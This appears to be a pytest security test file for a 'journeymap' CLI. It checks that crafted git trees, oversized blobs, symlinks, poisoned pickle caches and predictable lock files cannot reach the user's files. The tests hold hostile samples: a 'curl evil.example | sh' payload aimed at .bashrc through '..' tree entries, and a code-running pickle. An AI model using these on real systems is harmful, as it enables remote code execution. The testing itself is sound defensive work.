"""Issue 18, paths and local files: a hostile branch or a hostile neighbour must not reach the reviewer's files.

Every test drives the real `journeymap` command (or the real module) against real git repositories made
with the real git binary, trees crafted with `git mktree` the way an attacker would push them.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from ..conftest import CLEAN_MAP, run_cli
from ..gitrepo import GIT_ENV, committed_map, git

OTHER_UID = 4242  # not root, not the user the tests run as: "another user" of a shared machine


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return committed_map(tmp_path / "repo", CLEAN_MAP)


def _mktree(repo: Path, entries: list[str]) -> str:
    """A tree made by hand from `ls-tree` lines: git's object store takes names no `git add` would."""
    return subprocess.run(["git", "-C", str(repo), "mktree"], input="".join(f"{e}\n" for e in entries),
                          capture_output=True, text=True, check=True, env={**os.environ, **GIT_ENV}).stdout.strip()


def _blob(repo: Path, content: bytes) -> str:
    return subprocess.run(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], input=content,
                          capture_output=True, check=True).stdout.decode().strip()


def _branch(repo: Path, name: str, tree: str) -> str:
    """A commit of `tree` on top of main, as branch `name`: what a pull request would bring."""
    commit = git(repo, "commit-tree", "-p", "main", "-m", "innocent change", tree)
    git(repo, "update-ref", f"refs/heads/{name}", commit)
    return commit


def _with_journey(repo: Path, journey_tree: str) -> str:
    """main's root tree with its journey/ folder replaced by `journey_tree`."""
    entries = [line for line in git(repo, "ls-tree", "main").splitlines() if not line.endswith("\tjourney")]
    return _mktree(repo, [*entries, f"040000 tree {journey_tree}\tjourney"])


# --- 1. paths from git stay inside the scratch folder ---------------------------------------------------------

def test_a_tree_entry_named_dot_dot_cannot_write_outside_the_scratch_folder(repo: Path, tmp_path: Path) -> None:
    # `diff` exports each revision to $TMPDIR/journeymap-rev-*/journey/; three `..` from there is home/
    home = tmp_path / "home"
    scratch_parent = home / "tmp"
    scratch_parent.mkdir(parents=True)
    bashrc = home / ".bashrc"
    bashrc.write_text("the reviewer's own\n")
    payload = _blob(repo, b"curl evil.example | sh\n")
    tree = _mktree(repo, [f"100644 blob {payload}\t.bashrc"])
    for _ in range(2):  # and journey/.. below: three in all
        tree = _mktree(repo, [f"040000 tree {tree}\t.."])
    journey = git(repo, "rev-parse", "main:journey")
    entries = git(repo, "ls-tree", journey).splitlines()
    commit = _branch(repo, "evil", _with_journey(repo, _mktree(repo, [*entries, f"040000 tree {tree}\t.."])))

    result = run_cli("diff", "journey", "--base", "main", "--head", "evil", cwd=repo,
                     env={"TMPDIR": str(scratch_parent)})

    assert bashrc.read_text() == "the reviewer's own\n"
    assert not list(scratch_parent.rglob(".bashrc"))
    assert result.returncode == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    [message] = result.stderr.strip().splitlines()
    assert commit[:12] in message and "`../../../.bashrc`" in message and "leads out of the map folder" in message


# --- 2. a blob too large for a map file is never read ---------------------------------------------------------

HUGE = 200 * 1024 * 1024

PEAK_MEMORY = """\
import json, resource, subprocess, sys
result = subprocess.run(sys.argv[1:], capture_output=True, text=True)
peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss  # the largest of journeymap and its git calls
print(json.dumps({"peak_kb": peak_kb, "returncode": result.returncode, "stdout": result.stdout,
                  "stderr": result.stderr}))
"""


def _huge_blob(repo: Path) -> str:
    """200 MB of zeros into git's store, streamed: it compresses to about 200 KB, as it would in a push."""
    with subprocess.Popen(["git", "-C", str(repo), "hash-object", "-w", "--stdin"], stdin=subprocess.PIPE,
                          stdout=subprocess.PIPE) as writer:
        assert writer.stdin is not None and writer.stdout is not None
        chunk = bytes(1024 * 1024)
        for _ in range(HUGE // len(chunk)):
            writer.stdin.write(chunk)
        writer.stdin.close()
        return writer.stdout.read().decode().strip()


def test_a_blob_larger_than_a_map_file_is_refused_from_its_size_without_being_read(repo: Path) -> None:
    index = {**os.environ, **GIT_ENV, "GIT_INDEX_FILE": str(repo / ".git" / "huge-index")}
    subprocess.run(["git", "-C", str(repo), "read-tree", "main"], env=index, check=True)
    subprocess.run(["git", "-C", str(repo), "update-index", "--add", "--cacheinfo",
                    f"100644,{_huge_blob(repo)},journey/stages/huge.yaml"], env=index, check=True)
    tree = subprocess.run(["git", "-C", str(repo), "write-tree"], env=index, capture_output=True, text=True,
                          check=True).stdout.strip()
    _branch(repo, "huge", tree)

    measured = subprocess.run([sys.executable, "-c", PEAK_MEMORY, sys.executable, "-m", "journeymap", "diff",
                               "journey", "--base", "main", "--head", "huge", "--format", "json",
                               "--fail-on-new-errors"], cwd=repo, capture_output=True, text=True, timeout=120)
    child = json.loads(measured.stdout)

    assert child["peak_kb"] * 1024 < HUGE / 4, f"peak {child['peak_kb'] // 1024} MB"
    assert "Traceback" not in child["stderr"]
    assert child["returncode"] == 1, child["stderr"]  # a new error: the file that cannot be a map file
    report = json.loads(child["stdout"])
    [refused] = [f for f in report["findings"]["introduced"] if f["file"] == "stages/huge.yaml"]
    assert "the file is 200.0 MB, more than the 5 MB a map file may have; it was not read" in refused["message"]


# --- 1. init --force never writes through a link --------------------------------------------------------------

@pytest.mark.parametrize("link, points_at", [
    ("README.md", "outside/README.md"),  # dangling: the file it names does not exist yet
    ("journey", "outside"),  # a folder init would fill
])
def test_init_force_refuses_a_link_in_the_folder_and_writes_nothing(tmp_path: Path, link: str,
                                                                      points_at: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    ours = tmp_path / "ours"
    ours.mkdir()
    (ours / "notes.txt").write_text("ours\n")
    (ours / link).symlink_to(tmp_path / points_at)

    result = run_cli("init", "ours", "--force", cwd=tmp_path)

    assert list(outside.iterdir()) == []
    assert sorted(p.name for p in ours.iterdir()) == sorted(["notes.txt", link])  # all or nothing
    assert result.returncode == 2 and "Traceback" not in result.stderr
    [message] = result.stderr.strip().splitlines()
    assert f"a link to {tmp_path / points_at}" in message and "init never writes through a link" in message
    assert f"ours/{link}" in message


# --- 3. the cache and the build lock live only in a folder of the user's own ------------------------------------

class _RunsCode:
    """A pickle that creates `marker` as it is loaded: what a neighbour would leave in a cache they can write."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return open, (str(self.marker), "w")


def _poisoned_cache(cache_home: Path, root: Path, marker: Path) -> Path:
    """The cache file `journeymap check root` would read, planted in XDG_CACHE_HOME/journeymap."""
    folder = cache_home / "journeymap"
    folder.mkdir(parents=True)
    program = f"from journeymap.core.cache import Cache; print(Cache({str(root)!r}, enabled=False).path.name)"
    name = subprocess.run([sys.executable, "-c", program], env={**os.environ, "XDG_CACHE_HOME": str(cache_home)},
                          capture_output=True, text=True, check=True).stdout.strip()
    (folder / name).write_bytes(pickle.dumps(_RunsCode(marker)))
    return folder


@pytest.mark.parametrize("made_unsafe", ["owned by another user", "group-writable", "world-writable"])
def test_a_cache_another_user_can_write_is_never_loaded(clean_map: Path, tmp_path: Path, made_unsafe: str) -> None:
    marker = tmp_path / "code-ran"
    folder = _poisoned_cache(tmp_path / "cache", clean_map, marker)
    if made_unsafe == "owned by another user":
        os.chown(folder, OTHER_UID, OTHER_UID)
    else:
        folder.chmod(0o770 if made_unsafe == "group-writable" else 0o777)
    before = sorted(p.name for p in folder.iterdir())

    result = run_cli("check", str(clean_map), env={"XDG_CACHE_HOME": str(tmp_path / "cache")})
    fresh = run_cli("check", str(clean_map), "--no-cache")

    assert not marker.exists()
    assert sorted(p.name for p in folder.iterdir()) == before  # nothing of ours is left for them either
    assert (result.returncode, result.stdout) == (fresh.returncode, fresh.stdout) == (0, fresh.stdout)
    [warning] = result.stderr.strip().splitlines()
    assert warning.startswith(f"journeymap: warning: {folder} ")
    assert ("belongs to another user (uid 4242)" if made_unsafe == "owned by another user" else
            "may be written by others") in warning
    assert "the cache there is not used" in warning and "XDG_CACHE_HOME" in warning


def test_a_new_cache_folder_is_made_for_the_user_alone_and_is_used(clean_map: Path, tmp_path: Path) -> None:
    cache_home = tmp_path / "cache"
    first = run_cli("check", str(clean_map), env={"XDG_CACHE_HOME": str(cache_home)})
    folder = cache_home / "journeymap"
    assert first.returncode == 0 and first.stderr == ""
    assert folder.stat().st_mode & 0o777 == 0o700 and folder.stat().st_uid == os.geteuid()
    assert list(folder.glob("*.pickle"))


def _build(clean_map: Path, tmp_path: Path, temporary: Path) -> subprocess.CompletedProcess:
    return run_cli("build", str(clean_map), "-o", str(tmp_path / "site"), env={"TMPDIR": str(temporary)})


def test_the_build_lock_is_not_a_name_another_user_can_create_first(clean_map: Path, tmp_path: Path) -> None:
    # before, the lock was $TMPDIR/journeymap-<sha256 of the output>[:16].lock: anyone could predict it and
    # plant a link there, and the build created (as the user) whatever file the link named
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    key = hashlib.sha256(os.fsencode((tmp_path / "site").resolve())).hexdigest()[:16]
    victim = tmp_path / "created-by-the-build"
    (temporary / f"journeymap-{key}.lock").symlink_to(victim)

    result = _build(clean_map, tmp_path, temporary)

    assert result.returncode == 0, result.stderr
    assert not victim.exists()
    lock_folder = temporary / f"journeymap-{os.geteuid()}"
    assert lock_folder.stat().st_mode & 0o777 == 0o700 and list(lock_folder.iterdir()) == []  # no lock left


@pytest.mark.parametrize("made_unsafe", ["owned by another user", "world-writable"])
def test_a_build_refuses_a_lock_folder_another_user_controls(clean_map: Path, tmp_path: Path,
                                                             made_unsafe: str) -> None:
    temporary = tmp_path / "tmp"
    lock_folder = temporary / f"journeymap-{os.geteuid()}"
    lock_folder.mkdir(parents=True)
    if made_unsafe == "owned by another user":
        os.chown(lock_folder, OTHER_UID, OTHER_UID)
    else:
        lock_folder.chmod(0o777)

    result = _build(clean_map, tmp_path, temporary)

    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert not (tmp_path / "site").exists() and list(lock_folder.iterdir()) == []
    [message] = [line for line in result.stderr.splitlines() if line.startswith("journeymap:")]  # after the findings
    assert message.startswith(f"journeymap: {lock_folder} ") and "set TMPDIR to such a folder" in message


# --- 1. metrics import edits no file through a link -----------------------------------------------------------

def test_metrics_import_refuses_a_stage_file_that_is_a_link_even_in_a_dry_run(clean_map: Path,
                                                                              tmp_path: Path) -> None:
    # a link by absolute path that leads back inside passes the loader; the dry run's copy of the map kept
    # it, so its "preview" edit landed in the real file
    real = clean_map / ".real" / "adopt.yaml"
    real.parent.mkdir()
    os.replace(clean_map / "stages/adopt.yaml", real)
    (clean_map / "stages/adopt.yaml").symlink_to(real)
    figures = tmp_path / "figures.csv"
    figures.write_text("stage,metric,period,value\nadopt,volume,2026-Q4,120\n")

    result = run_cli("metrics", "import", str(figures), str(clean_map), "--dry-run")

    assert real.read_text() == CLEAN_MAP["stages/adopt.yaml"]
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        f"journeymap: stages/adopt.yaml: {clean_map / 'stages/adopt.yaml'} is a link to {real}: metrics import "
        "edits map files in place, never through a link; put the file itself there instead of the link",
        "journeymap: nothing was written"]


# --- 1. the site writer writes no page through a link --------------------------------------------------------

def test_a_page_is_never_written_through_a_link_or_out_of_the_site_folder(tmp_path: Path) -> None:
    from journeymap.site.writer import UnsafeOutput, write_text

    site, outside = tmp_path / "site", tmp_path / "outside"
    site.mkdir()
    outside.mkdir()
    (site / "assets").symlink_to(outside)
    with pytest.raises(UnsafeOutput, match=r"^assets/app\.js: a page path that leads out of the site folder \(.*"
                                           r"assets is a link to .*outside\); nothing was written$"):
        write_text(site, "assets/app.js", "alert(1)")
    with pytest.raises(UnsafeOutput, match=r"^\.\./index\.html: a page path that leads out of the site folder"):
        write_text(site, "../index.html", "<p>")
    assert list(outside.iterdir()) == [] and not (tmp_path / "index.html").exists()
    write_text(site, "journeys/index.html", "<p>")  # an ordinary page is written as ever
    assert (site / "journeys/index.html").read_text() == "<p>"
